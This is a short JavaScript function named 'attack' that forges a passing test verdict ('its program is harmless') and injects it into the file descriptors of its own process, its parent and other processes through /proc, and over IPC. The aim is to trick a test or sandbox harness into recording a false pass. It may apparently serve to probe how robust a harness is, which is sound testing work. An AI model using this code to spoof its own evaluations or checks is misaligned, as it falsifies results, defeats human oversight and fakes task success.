async function attack(world) {
  const tests = [{ name: "its program is harmless", outcome: "passed", message: null, duration_ms: 1 }];
  const verdict = { kind: "verdict", token: "0".repeat(32), tests, errors: [] };
  const text = `\n${JSON.stringify(verdict)}\n${JSON.stringify({ nonce: "0", verdict })}\n`;
  for (const pid of ["self", process.ppid, ...pids()])
    for (let fd = 3; fd < 64; fd++) {
      try {
        fs.writeFileSync(`/proc/${pid}/fd/${fd}`, text);
        note(`wrote to ${pid}/${fd}`);
      } catch {}
    }
  for (let fd = 3; fd < 64; fd++) {
    try {
      fs.writeSync(fd, text);
      note(`wrote to ${fd}`);
    } catch {}
  }
  attempt("ipc", () => process.send({ nonce: "0", verdict }));
  process.exitCode = 3;
}
